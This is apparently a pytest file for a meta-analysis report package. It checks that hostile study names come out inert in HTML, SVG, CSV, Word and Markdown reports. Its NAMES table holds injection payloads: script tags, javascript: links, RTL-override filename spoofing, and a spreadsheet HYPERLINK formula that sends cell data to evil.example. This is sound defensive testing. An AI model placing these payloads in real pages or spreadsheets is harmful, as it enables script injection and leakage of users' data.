"""Names that attack: nothing that data say becomes markup, a link, a formula or an order of letters.

What counts as harm is judged by parsers that know nothing of this package: html.parser, an XML parser,
python-docx, the csv module, and a small reading of CommonMark.
"""

import csv
import io
import json
import re
import time
import zipfile
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from defusedxml.ElementTree import fromstring
from docx import Document

import bayesrtw as brw
from bayesrtw.analysis.default import default_analyses
from bayesrtw.analysis.run import Synthesis, run
from bayesrtw.analysis.spec import Estimand
from bayesrtw.evidence.quality import Judgement, Judgements, listed
from bayesrtw.report.folder import write_index, write_results
from bayesrtw.report.html import render_index
from bayesrtw.report.render import render

#: One name each: ends a picture, turns a line round, calls a spreadsheet, calls a script, is huge, is
#: invisible in parts, ends a JSON island, is a link of Markdown, is an entity.
NAMES = {
    "svg": '</svg></desc><script>alert(1)</script><image href="//evil.example/x"/>',
    "turned": "\u202ecod.exe\u202c \u2067right\u2069 \u200f",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "doi": "doi:javascript:alert(1) 10.1000/javascript:alert(1)//\"onclick='x'",
    "huge": "Huge " + "x" * 2500 + " " + "Ωμέγα " * 415,
    "unseen": "Zero\u200bwidth\u200d \ufeffname\u2060",
    "island": "</script><!--<script>alert(2)</script>",
    "markdown": "![x](http://evil.example/x.png) [y](javascript:alert(3)) <http://evil.example>",
    "entity": "&lt;img src=x onerror=alert(4)&gt; ]]> <![CDATA[",
}


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Synthesis, Path]:
    names = list(NAMES.values())
    count = len(names)
    frame = pd.DataFrame(
        {
            "study": names,
            "effect": [0.1 * place - 0.3 for place in range(count)],
            "se": [0.1 + 0.02 * place for place in range(count)],
            "design": ["rct", "cohort"] * (count // 2) + ["rct"] * (count % 2),
            "note": names,
            "locator": names,
            "printed": names,
            "year": [2000.0 + place for place in range(count)],
        }
    )
    evidence = brw.Evidence.from_frame(frame, measure="log_hazard_ratio")
    words = listed("RoB 2", "2019").domains
    judged = tuple(
        Judgement(name, "RoB 2", "2019", domain, choices[0])
        for name in names
        for domain, choices in words.items()
    )
    evidence = replace(evidence, judgements=Judgements(judged))
    (analysis,) = default_analyses(evidence)
    asked = (Estimand(NAMES["svg"], "mu"), Estimand(NAMES["formula"], "theta_new"))
    analysis = replace(
        analysis,
        title=NAMES["island"],
        question=NAMES["svg"],
        rationale=(NAMES["markdown"], NAMES["turned"]),
        estimand=asked,
    )
    found = run(analysis, evidence)
    start = time.process_time()
    folder = write_results(found, tmp_path_factory.mktemp("hostile"), report=True)
    # A name of 5,000 characters costs nothing that a reader would notice.
    assert time.process_time() - start < 30
    return found, folder


class _Page(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def assert_harmless(text: str, scripts: int) -> None:
    page = _Page()
    page.feed(text)
    kinds = [tag for tag, _ in page.tags]
    assert kinds.count("script") == scripts
    assert not {"img", "image", "iframe", "object", "embed", "form", "base", "link"} & set(kinds)
    for tag, attributes in page.tags:
        assert not [name for name in attributes if name.startswith("on") or name == "style"], tag
        for name in ("href", "src", "xlink:href", "action", "formaction"):
            address = attributes.get(name, "#")
            known = ("#", "https://doi.org/10.", "../index.html")
            assert address.startswith(known) or address.endswith("/report.html"), address
            assert "evil" not in address


def assert_turns_stay_inside(text: str) -> None:
    """Every mark of direction stands in an element that isolates it, or in an attribute or script."""
    shown = re.sub(r"<script.*?</script>", "", text, flags=re.DOTALL)
    alone = "bdi|option|title|pre"
    shown = re.sub(rf"<({alone})\b[^>]*>.*?</\1>", "", shown, flags=re.DOTALL)
    shown = re.sub(r"<[^>]*>", "", shown)
    assert not re.search("[\u200e\u200f\u202a-\u202e\u2066-\u2069]", shown)


def test_a_page_and_the_index_hold_only_their_own_markup(made: tuple[Synthesis, Path]) -> None:
    _, folder = made
    text = (folder / "report.html").read_text(encoding="utf-8")
    assert_harmless(text, 2)
    assert_turns_stay_inside(text)
    index = write_index(folder.parent).read_text(encoding="utf-8")
    assert_harmless(index, 0)
    assert_turns_stay_inside(index)
    assert "&lt;/script&gt;&lt;!--&lt;script&gt;" in index


def test_pictures_stay_pictures(made: tuple[Synthesis, Path]) -> None:
    _, folder = made
    for path in sorted(folder.glob("*.svg")):
        root = fromstring(path.read_bytes())
        kinds = {re.sub(r"\{.*\}", "", str(node.tag)) for node in root.iter()}
        assert not kinds & {"script", "image", "a", "foreignObject"}
        written = " ".join(str(node.text) for node in root.iter() if node.text)
        assert not re.search("[\u200e\u200f\u202a-\u202e\u2066-\u2069]", written)
        # Names are shortened in the picture; the file is no larger for a huge one.
        assert path.stat().st_size < 500_000


def test_no_cell_of_a_table_is_a_formula(made: tuple[Synthesis, Path]) -> None:
    _, folder = made
    rows = list(csv.reader(io.StringIO((folder / "estimates.csv").read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert any(NAMES["formula"] in cell for cell in cells)
    for cell in cells:
        assert not re.match(r"[=+@\t\r＝＋－＠]|-(?![0-9.])", cell), cell


def test_word_holds_text_alone(made: tuple[Synthesis, Path]) -> None:
    synthesis, folder = made
    content = _content(folder)
    raw = render(synthesis, content, "docx")
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                part = archive.read(name).decode()
                fromstring(part.encode())
                if name == "word/document.xml":
                    assert not re.search("w:instrText|w:hyperlink|w:fldSimple|w:object", part)
                assert 'TargetMode="External"' not in part
    tables = Document(io.BytesIO(raw)).tables
    said = {cell.text for table in tables for row in table.rows for cell in row.cells}
    assert NAMES["formula"] in said
    assert " ".join(NAMES["huge"].split()) in said


def test_markdown_holds_no_link_picture_or_tag(made: tuple[Synthesis, Path]) -> None:
    synthesis, folder = made
    text = render(synthesis, _content(folder), "md").decode()
    assert not re.search(r"(?<!\\)<[a-zA-Z/!?]", text)
    words = "\n".join(line for line in text.splitlines() if not line.startswith("    "))
    assert not re.search(r"(?<!\\)\]\(", words)
    assert not re.search(r"(?<!\\)\[[^\n]*(?<!\\)\]:", words)
    # A bare address is a link in many readers; one slash of it is escaped.
    assert "http://evil" not in words
    for line in text.splitlines():
        marks = [m.start() for m in re.finditer("[\u202a-\u202e]", line)]
        assert not marks or "\u2068" in line[: marks[0]]


def _content(folder: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((folder / "synthesis.json").read_text(encoding="utf-8"))
    return found


def test_an_index_of_foreign_words_is_harmless() -> None:
    line = {
        "id": "x",
        "title": NAMES["svg"],
        "question": NAMES["turned"],
        "measure": "log_risk_ratio",
        "benefit": "higher",
        "unit": "",
        "rows": [{"effect": 0.1, "se": 0.1}],
        "estimates": {},
        "pooled": None,
        "evidence": {"caveat": NAMES["island"], "dataset": NAMES["formula"], "studies": 3},
    }
    assert_harmless(render_index([line]), 0)
